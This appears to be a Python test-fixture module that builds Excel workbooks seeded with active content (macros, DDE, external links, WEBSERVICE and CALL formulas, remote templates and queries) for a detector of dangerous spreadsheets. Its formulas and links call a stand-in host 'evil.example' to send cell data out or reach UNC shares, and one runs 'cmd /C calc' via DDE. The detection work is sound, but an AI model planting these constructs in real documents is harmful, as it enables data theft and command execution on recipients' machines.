"""Ledgers that hold what acts when somebody opens them, written part by part."""

from __future__ import annotations

from collections.abc import Callable
from typing import Final

from tests.office.zip_tools import packed, parts_of
from tests.receipts.samples import ledger_bytes

BOOK: Final = "xl/workbook.xml"
SHEET: Final = "xl/worksheets/sheet1.xml"
OFFICE: Final = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MICROSOFT: Final = "http://schemas.microsoft.com/office/2006/relationships"
_EMPTY: Final = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
)
EVIL: Final = "evil.example"
"""The name of the host that everything here wants to reach; macros and the like are told by their parts."""

Parts = dict[str, bytes]


def rels(part: str) -> str:
    folder, _, name = part.rpartition("/")
    return f"{folder}/_rels/{name}.rels".lstrip("/")


def tie(parts: Parts, part: str, kind: str, target: str, *, external: bool = False, id_: str = "rId90") -> None:
    """Relate a part to another, or to a place outside."""
    type_ = kind if kind.startswith("http") else f"{OFFICE}/{kind}"
    mode = ' TargetMode="External"' if external else ""
    relation = f'<Relationship Id="{id_}" Type="{type_}" Target="{target}"{mode}/></Relationships>'
    parts[rels(part)] = parts.get(rels(part), _EMPTY).replace(b"</Relationships>", relation.encode())


def typed(parts: Parts, name: str, content_type: str) -> None:
    override = f'<Override PartName="/{name}" ContentType="{content_type}"/></Types>'
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", override.encode())


def insert(parts: Parts, part: str, before: str, text: str) -> None:
    assert before.encode() in parts[part], (part, before)
    parts[part] = parts[part].replace(before.encode(), text.encode() + before.encode(), 1)


def _macros(parts: Parts) -> None:
    parts["xl/vbaProject.bin"] = b"Sub Workbook_Open()"
    typed(parts, "xl/vbaProject.bin", "application/vnd.ms-office.vbaProject")
    tie(parts, BOOK, f"{_MICROSOFT}/vbaProject", "vbaProject.bin")
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )


def _macro_under_another_name(parts: Parts) -> None:
    parts["xl/media/image9.png"] = b"Sub Workbook_Open()"
    typed(parts, "xl/media/image9.png", "application/vnd.ms-office.vbaProject")
    tie(parts, BOOK, f"{_MICROSOFT}/vbaProject", "media/image9.png")


def _dde(parts: Parts) -> None:
    parts["xl/externalLinks/externalLink1.xml"] = (
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" '
        b'ddeTopic="/c calc"><ddeItems><ddeItem name="A0"/></ddeItems></ddeLink></externalLink>'
    )
    _external_reference(parts, "externalLink1.xml")
    _formula(parts, "[1]!A0")


def _external_reference(parts: Parts, name: str) -> None:
    typed(
        parts,
        f"xl/externalLinks/{name}",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
    )
    tie(parts, BOOK, "externalLink", f"externalLinks/{name}")
    insert(
        parts,
        BOOK,
        "<calcPr",
        f'<externalReferences><externalReference xmlns:r="{OFFICE}" r:id="rId90"/></externalReferences>',
    )


def _other_workbook(parts: Parts) -> None:
    parts["xl/externalLinks/externalLink1.xml"] = (
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook '
        b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"><sheetNames>'
        b'<sheetName val="S"/></sheetNames></externalBook></externalLink>'
    )
    tie(
        parts,
        "xl/externalLinks/externalLink1.xml",
        "externalLinkPath",
        f"file:///\\\\{EVIL}\\a.xlsx",
        external=True,
        id_="rId1",
    )
    _external_reference(parts, "externalLink1.xml")
    _formula(parts, "VLOOKUP(1,[1]S!A:B,2,0)")


def _formula(parts: Parts, formula: str, cell: str = "H9") -> None:
    written = formula.replace("&", "&amp;").replace("<", "&lt;")
    insert(
        parts,
        SHEET,
        "</sheetData>",
        f'<row r="{cell[1:]}"><c r="{cell}" t="str"><f>{written}</f><v>备注文字</v></c></row>',
    )


def _shared_formula(parts: Parts) -> None:
    insert(
        parts,
        SHEET,
        "</sheetData>",
        f'<row r="9"><c r="H9" t="str"><f t="shared" ref="H9:I9" si="0">WEBSERVICE("http://{EVIL}"&amp;A1)</f>'
        '<v>备注文字</v></c><c r="I9" t="str"><f t="shared" si="0"/><v>备注</v></c></row>',
    )


def _embedded(parts: Parts) -> None:
    parts["xl/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0 object"
    typed(parts, "xl/embeddings/oleObject1.bin", "application/vnd.openxmlformats-officedocument.oleObject")
    tie(parts, SHEET, "oleObject", "../embeddings/oleObject1.bin")
    insert(
        parts,
        SHEET,
        "</worksheet>",
        f'<oleObjects><oleObject progId="Package" shapeId="1025" xmlns:r="{OFFICE}" r:id="rId90"/></oleObjects>',
    )


def _linked_object(parts: Parts) -> None:
    tie(parts, SHEET, "oleObject", f"file:///\\\\{EVIL}\\share\\a.doc", external=True)
    insert(
        parts,
        SHEET,
        "</worksheet>",
        '<oleObjects><oleObject progId="Word" link="x" '
        f'shapeId="1025" xmlns:r="{OFFICE}" r:id="rId90"/></oleObjects>',
    )


def _active_x(parts: Parts) -> None:
    parts["xl/activeX/activeX1.xml"] = b'<ocx xmlns="http://schemas.microsoft.com/office/2006/activeX"/>'
    typed(parts, "xl/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml")
    parts["xl/activeX/activeX1.bin"] = b"control"
    tie(parts, SHEET, "control", "../activeX/activeX1.xml")
    tie(parts, "xl/activeX/activeX1.xml", f"{_MICROSOFT}/activeXControlBinary", "activeX1.bin", id_="rId1")
    insert(
        parts,
        SHEET,
        "</worksheet>",
        '<mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"><mc:Choice '
        f'Requires="x14"><controls><control shapeId="1025" xmlns:r="{OFFICE}" r:id="rId90" name="按钮"/></controls>'
        "</mc:Choice></mc:AlternateContent>",
    )


def _macro_button(parts: Parts) -> None:
    parts["xl/drawings/vmlDrawing9.vml"] = (
        b'<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:q="urn:schemas-microsoft-com:office:excel"><v:shape '
        b'id="_x0000_s1025" type="#_x0000_t201"><q:ClientData ObjectType="Button"><q:FmlaMacro>[0]!run</q:FmlaMacro>'
        b"</q:ClientData></v:shape></xml>"
    )
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"<Override",
        b'<Default Extension="vml" ContentType="application/vnd.openxmlformats-officedocument.vmlDrawing"/><Override',
        1,
    )
    tie(parts, SHEET, "vmlDrawing", "../drawings/vmlDrawing9.vml")
    insert(parts, SHEET, "</worksheet>", f'<legacyDrawing xmlns:r="{OFFICE}" r:id="rId90"/>')


_DRAWING: Final = (
    '<xdr:wsDr xmlns:xdr="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" '
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
    f'xmlns:r="{OFFICE}"><xdr:oneCellAnchor><xdr:from><xdr:col>8</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>1</xdr:row>'
    '<xdr:rowOff>0</xdr:rowOff></xdr:from><xdr:ext cx="90000" cy="90000"/>{}<xdr:clientData/></xdr:oneCellAnchor>'
    "</xdr:wsDr>"
)
_SHAPE: Final = (
    '<xdr:sp macro="{macro}" textlink=""><xdr:nvSpPr><xdr:cNvPr id="2" name="形状">{link}</xdr:cNvPr><xdr:cNvSpPr/>'
    '</xdr:nvSpPr><xdr:spPr><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></xdr:spPr><xdr:txBody><a:bodyPr/><a:p>'
    "<a:r><a:t>请点此处</a:t></a:r></a:p></xdr:txBody></xdr:sp>"
)


def _drawing(parts: Parts, inner: str) -> None:
    parts["xl/drawings/drawing9.xml"] = _DRAWING.format(inner).encode()
    typed(parts, "xl/drawings/drawing9.xml", "application/vnd.openxmlformats-officedocument.drawing+xml")
    tie(parts, SHEET, "drawing", "../drawings/drawing9.xml")
    insert(parts, SHEET, "</worksheet>", f'<drawing xmlns:r="{OFFICE}" r:id="rId90"/>')


def _shape_with_macro(parts: Parts) -> None:
    _drawing(parts, _SHAPE.format(macro="[0]!Auto_run", link=""))


def _shape_with_link(parts: Parts) -> None:
    _drawing(parts, _SHAPE.format(macro="", link='<a:hlinkClick r:id="rId7"/>'))
    tie(parts, "xl/drawings/drawing9.xml", "hyperlink", f"http://{EVIL}/login", external=True, id_="rId7")


def _remote_picture(parts: Parts) -> None:
    _drawing(
        parts,
        '<xdr:pic><xdr:nvPicPr><xdr:cNvPr id="2" name="图"/><xdr:cNvPicPr/></xdr:nvPicPr><xdr:blipFill><a:blip '
        'r:link="rId7"/><a:stretch><a:fillRect/></a:stretch></xdr:blipFill><xdr:spPr><a:prstGeom prst="rect">'
        "<a:avLst/></a:prstGeom></xdr:spPr></xdr:pic>",
    )
    tie(parts, "xl/drawings/drawing9.xml", "image", f"http://{EVIL}/beacon.png", external=True, id_="rId7")


def _queries(parts: Parts) -> None:
    parts["xl/connections.xml"] = (
        b'<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><connection id="1" type="4" '
        b'refreshOnLoad="1" name="c"><webPr url="http://evil.example/t"/></connection></connections>'
    )
    typed(parts, "xl/connections.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml")
    tie(parts, BOOK, "connections", "connections.xml")
    parts["xl/queryTables/queryTable1.xml"] = (
        b'<queryTable xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" name="q" connectionId="1"/>'
    )
    typed(
        parts,
        "xl/queryTables/queryTable1.xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.queryTable+xml",
    )
    tie(parts, SHEET, "queryTable", "../queryTables/queryTable1.xml", id_="rId91")
    parts["customXml/item1.xml"] = b"<DataMashup xmlns='http://schemas.microsoft.com/DataMashup'>AAAA</DataMashup>"
    tie(parts, BOOK, "customXml", "../customXml/item1.xml", id_="rId92")


def _ribbon(parts: Parts) -> None:
    parts["customUI/customUI14.xml"] = (
        b'<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="run"/>'
    )
    tie(
        parts,
        "",
        "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility",
        "customUI/customUI14.xml",
    )


def _web_extension(parts: Parts) -> None:
    parts["xl/webextensions/taskpanes.xml"] = b"<wetp:taskpanes xmlns:wetp='urn:x'/>"
    tie(
        parts,
        "",
        "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes",
        "xl/webextensions/taskpanes.xml",
    )


def _attached_template(parts: Parts) -> None:
    tie(parts, BOOK, "attachedTemplate", f"http://{EVIL}/t.xltm", external=True)


def _names(parts: Parts) -> None:
    insert(
        parts,
        BOOK,
        "<calcPr",
        "<definedNames><definedName name=\"_xlnm.Auto_Open\">'台账'!$A$1</definedName>"
        f'<definedName name="auto_close2" hidden="1">\'台账\'!$A$1</definedName><definedName name="取数">WEBSERVICE("http://{EVIL}")</definedName>'
        '<definedName name="命令" xlm="1" function="1">\'台账\'!$A$2</definedName>'
        "<definedName name=\"正常\">'台账'!$A$3</definedName></definedNames>",
    )
    _formula(parts, "取数&正常")


def _hyperlinks(parts: Parts) -> None:
    tie(parts, SHEET, "hyperlink", f"file:///\\\\{EVIL}\\x.exe", external=True)
    insert(
        parts,
        SHEET,
        "<pageMargins",
        f'<hyperlinks xmlns:r="{OFFICE}"><hyperlink ref="B4" r:id="rId90"/><hyperlink ref="C4" '
        f'location="\\\\{EVIL}\\share"/><hyperlink ref="D4" location="\'台账\'!A1"/></hyperlinks>',
    )


def _rules(parts: Parts) -> None:
    insert(
        parts,
        SHEET,
        "<pageMargins",
        '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>'
        f'WEBSERVICE("http://{EVIL}")=1</formula></cfRule></conditionalFormatting><dataValidations count="1">'
        '<dataValidation type="list" sqref="B9"><formula1>[1]S!$A$1:$A$3</formula1></dataValidation>'
        "</dataValidations>",
    )


def _macro_sheet(parts: Parts) -> None:
    parts["xl/dialogsheets/sheet1.xml"] = (
        b'<dialogsheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>'
    )
    typed(
        parts,
        "xl/dialogsheets/sheet1.xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.dialogsheet+xml",
    )
    tie(parts, BOOK, "dialogsheet", "dialogsheets/sheet1.xml")
    insert(parts, BOOK, "</sheets>", f'<sheet name="对话" sheetId="9" xmlns:r="{OFFICE}" r:id="rId90"/>')


def _second_workbook_part(parts: Parts) -> None:
    parts["xl/other.xml"] = parts[BOOK]
    tie(parts, "xl/other.xml", f"{_MICROSOFT}/vbaProject", "vbaProject.bin", id_="rId1")
    parts["xl/vbaProject.bin"] = b"Sub Workbook_Open()"
    tie(parts, "", "officeDocument", "xl/other.xml")


def _formula_of(formula: str) -> Callable[[Parts], None]:
    return lambda parts: _formula(parts, formula)


ACTIVE: Final[dict[str, tuple[Callable[[Parts], None], str]]] = {
    "macros": (_macros, "宏"),
    "macros under another name": (_macro_under_another_name, "宏"),
    "dde": (_dde, "动态数据交换"),
    "dde formula": (_formula_of("cmd|'/C calc'!A0"), "公式"),
    "another workbook": (_other_workbook, "指向其他文件的链接"),
    "a path formula": (_formula_of(f"'\\\\{EVIL}\\[a.xlsx]S'!A1"), "公式"),
    "webservice": (_formula_of(f'_xlfn.WEBSERVICE("http://{EVIL}/"&C4)'), "公式"),
    "shared webservice": (_shared_formula, "公式"),
    "image": (_formula_of(f'_xlfn.IMAGE("http://{EVIL}/b.png")'), "公式"),
    "hyperlink formula": (_formula_of(f'HYPERLINK("file://{EVIL}/x.exe","按此")'), "公式"),
    "call": (_formula_of('CALL("Shell32","ShellExecuteA","JJCCCJJ",0,"open")'), "公式"),
    "rtd": (_formula_of('RTD("prog.id","","x")'), "公式"),
    "user function": (_formula_of("我的函数(A1)"), "公式"),
    "embedded": (_embedded, "嵌入的对象"),
    "linked object": (_linked_object, "嵌入的对象"),
    "activex": (_active_x, "控件"),
    "macro button": (_macro_button, "宏按钮"),
    "shape with macro": (_shape_with_macro, "宏按钮"),
    "shape with link": (_shape_with_link, "超链接"),
    "remote picture": (_remote_picture, "外部图片"),
    "queries": (_queries, "外部数据查询"),
    "ribbon": (_ribbon, "功能区"),
    "web extension": (_web_extension, "加载项"),
    "attached template": (_attached_template, "模板"),
    "names": (_names, "宏"),
    "hyperlinks": (_hyperlinks, "超链接"),
    "rules": (_rules, "公式"),
    "dialog sheet": (_macro_sheet, "工作表“对话”"),
    "second workbook part": (_second_workbook_part, "宏"),
}
"""By name: what makes a ledger hold it, and a word with which its sender is told."""


def active(*names: str) -> bytes:
    """A ledger that holds these things."""
    parts = parts_of(ledger_bytes(plain=True))
    for name in names:
        ACTIVE[name][0](parts)
    return packed(parts)
